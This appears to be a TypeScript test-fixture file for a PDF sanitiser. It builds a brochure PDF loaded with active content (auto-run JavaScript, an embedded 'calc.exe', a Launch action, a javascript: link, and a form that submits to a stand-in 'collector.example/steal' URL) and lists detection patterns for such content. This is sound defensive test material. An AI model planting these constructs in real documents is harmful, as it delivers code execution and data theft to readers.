import {
  PDFArray,
  PDFDict,
  PDFDocument,
  PDFName,
  PDFRawStream,
  PDFString,
  StandardFonts,
  decodePDFRawStream,
  type PDFPage,
} from '@cantoo/pdf-lib';
import { testPicture } from './listing-fixtures';

/** Names of active content, as they appear in a PDF that still has it (the file is written without object streams). */
export const activeContentNames = ['/JavaScript', '/OpenAction', '/Launch', '/EmbeddedFile', '/XFA', '/RichMedia'];

/** What a cleaned file must not hold, as bytes: the names above, the scripts, the attached file. */
export function activeContentIn(bytes: Buffer): string[] {
  const text = bytes.toString('latin1');
  const found = [...activeContentNames, 'app.alert', 'calc.exe', 'MZpayload', 'javascript:'].filter((word) =>
    text.includes(word),
  );
  // A name is followed by a delimiter: /AA and /JS, not /AAPL.
  for (const name of ['AA', 'JS']) if (new RegExp(`/${name}[\\s/<>\\[\\]()]`).test(text)) found.push(`/${name}`);
  return found;
}

const activeKeys = ['OpenAction', 'AA', 'JS', 'JavaScript', 'EmbeddedFiles', 'EF', 'XFA', 'RichMediaContent'];
const activeWords = ['JavaScript', 'Launch', 'SubmitForm', 'EmbeddedFile', 'FileAttachment', 'RichMedia'];

/**
 * Active content anywhere in a parsed PDF, object streams included: every object the file
 * holds, reached or not, is looked at for the keys and the names (action types, file and
 * annotation kinds) of active content.
 */
export function activeContentOf(pdf: PDFDocument): string[] {
  const found = new Set<string>();
  const look = (object: unknown) => {
    const dict = object instanceof PDFRawStream ? object.dict : object;
    if (dict instanceof PDFDict) {
      for (const [key, value] of dict.entries()) {
        if (activeKeys.includes(key.decodeText())) found.add(`/${key.decodeText()}`);
        if (value instanceof PDFName && activeWords.includes(value.decodeText())) found.add(`/${value.decodeText()}`);
        look(value);
      }
    } else if (dict instanceof PDFArray) dict.asArray().forEach(look);
  };
  for (const [, object] of pdf.context.enumerateIndirectObjects()) look(object);
  return [...found].sort();
}

/** A multi-page brochure: a title, a line of text and a photo on every page. */
export async function brochurePdf(pageCount = 3): Promise<PDFDocument> {
  const pdf = await PDFDocument.create();
  const font = await pdf.embedFont(StandardFonts.Helvetica);
  const photo = await pdf.embedPng(await testPicture(120, 80));
  for (let number = 1; number <= pageCount; number += 1) {
    const page = pdf.addPage([595, 842]);
    page.drawText(`Riverside Residences, page ${number}`, { x: 50, y: 780, size: 18, font });
    page.drawText('Sixty apartments by the river, ready next spring.', { x: 50, y: 750, size: 11, font });
    page.drawImage(photo, { x: 50, y: 500, width: 240, height: 160 });
  }
  pdf.setAuthor('Jane Agent');
  return pdf;
}

/** The decoded drawing of every page: what a viewer shows, to compare before and after. */
export function pageDrawings(pdf: PDFDocument): string[] {
  return pdf.getPages().map((page) => {
    const contents = page.node.Contents();
    const streams = contents instanceof PDFArray ? contents.asArray() : [contents];
    return streams
      .map((stream) => pdf.context.lookup(stream))
      .map((stream) => Buffer.from(decodePDFRawStream(stream as PDFRawStream).decode()).toString('latin1'))
      .join('\n');
  });
}

const linkAt = (pdf: PDFDocument, y: number, action: PDFDict) =>
  pdf.context.register(
    pdf.context.obj({
      Type: 'Annot',
      Subtype: 'Link',
      Rect: [50, y, 300, y + 20],
      Border: [0, 0, 0],
      A: action,
    }),
  );

const script = (pdf: PDFDocument, code: string) =>
  pdf.context.register(pdf.context.obj({ Type: 'Action', S: 'JavaScript', JS: PDFString.of(code) }));

/** The links of a page: each one's action type and URI ('' without one). */
export function linksOf(pdf: PDFDocument, page: PDFPage): { action: string; uri: string }[] {
  const annots = page.node.Annots()?.asArray() ?? [];
  return annots.flatMap((ref) => {
    const annot = pdf.context.lookup(ref) as PDFDict;
    if (annot.lookup(PDFName.of('Subtype')) !== PDFName.of('Link')) return [];
    const action = annot.lookupMaybe(PDFName.of('A'), PDFDict);
    const type = action?.lookupMaybe(PDFName.of('S'), PDFName)?.decodeText() ?? '';
    const uri = action?.lookupMaybe(PDFName.of('URI'), PDFString)?.decodeText() ?? '';
    return [{ action: type, uri }];
  });
}

/**
 * The brochure with every kind of active content a PDF can carry: a script run on opening and
 * on closing, a page script, a document-level script in the name tree, an attached program
 * (name tree and file attachment annotation), a launch link, a javascript: link, a form that
 * submits and computes with scripts and carries an XFA form, a rich-media annotation and a
 * bookmark that runs a script. Beside them, an ordinary web link and a jump to page 2, which
 * stay. Written with object streams (pdf-lib's default), as most PDF writers do, so the
 * names are compressed out of sight in the upload.
 */
export async function activePdf(): Promise<Buffer> {
  const pdf = await brochurePdf(3);
  const { context, catalog } = pdf;
  const [first, second] = pdf.getPages() as [PDFPage, PDFPage];
  catalog.set(PDFName.of('OpenAction'), script(pdf, 'app.alert("opened")'));
  catalog.set(PDFName.of('AA'), context.obj({ WC: script(pdf, 'app.alert("closing")') }));
  first.node.set(PDFName.of('AA'), context.obj({ O: script(pdf, 'app.alert("page")') }));

  const payload = context.register(
    context.stream('MZpayload', { Type: 'EmbeddedFile', Subtype: 'application/x-msdownload' }),
  );
  const fileSpec = context.register(
    context.obj({ Type: 'Filespec', F: PDFString.of('calc.exe'), UF: PDFString.of('calc.exe'), EF: { F: payload } }),
  );
  catalog.set(
    PDFName.of('Names'),
    context.obj({
      JavaScript: { Names: [PDFString.of('init'), script(pdf, 'app.alert("init")')] },
      EmbeddedFiles: { Names: [PDFString.of('calc.exe'), fileSpec] },
    }),
  );

  const widget = context.register(
    context.obj({
      Type: 'Annot',
      Subtype: 'Widget',
      FT: 'Btn',
      T: PDFString.of('send'),
      Rect: [50, 300, 150, 330],
      A: { S: 'SubmitForm', F: { FS: 'URL', F: PDFString.of('https://collector.example/steal') } },
      AA: { K: script(pdf, 'app.alert("keystroke")') },
    }),
  );
  const xfa = context.register(context.stream('<xdp:xdp><script>app.alert("xfa")</script></xdp:xdp>'));
  catalog.set(PDFName.of('AcroForm'), context.obj({ Fields: [widget], XFA: xfa }));

  const outline = context.register(context.obj({ Type: 'Outlines', Count: 1 }));
  const bookmark = context.register(
    context.obj({ Title: PDFString.of('Prices'), Parent: outline, A: script(pdf, 'app.alert("bookmark")') }),
  );
  const outlineDict = context.lookup(outline, PDFDict);
  outlineDict.set(PDFName.of('First'), bookmark);
  outlineDict.set(PDFName.of('Last'), bookmark);
  catalog.set(PDFName.of('Outlines'), outline);

  const annots = [
    linkAt(pdf, 700, context.obj({ S: 'URI', URI: PDFString.of('https://domus.example/riverside') })),
    linkAt(pdf, 670, context.obj({ S: 'GoTo', D: [second.ref, 'Fit'] })),
    linkAt(pdf, 640, context.obj({ S: 'Launch', F: PDFString.of('calc.exe'), NewWindow: true })),
    linkAt(pdf, 610, context.obj({ S: 'URI', URI: PDFString.of('javascript:app.alert("link")') })),
    context.register(
      context.obj({
        Type: 'Annot',
        Subtype: 'FileAttachment',
        Rect: [400, 700, 420, 720],
        FS: fileSpec,
        Name: 'Paperclip',
      }),
    ),
    context.register(
      context.obj({
        Type: 'Annot',
        Subtype: 'RichMedia',
        Rect: [300, 300, 500, 500],
        RichMediaContent: { Assets: { Names: [PDFString.of('movie.swf'), fileSpec] } },
      }),
    ),
    widget,
  ];
  first.node.set(PDFName.of('Annots'), context.obj(annots));
  await pdf.attach(Buffer.from('MZpayload again'), 'setup.exe', { mimeType: 'application/x-msdownload' });
  return Buffer.from(await pdf.save());
}
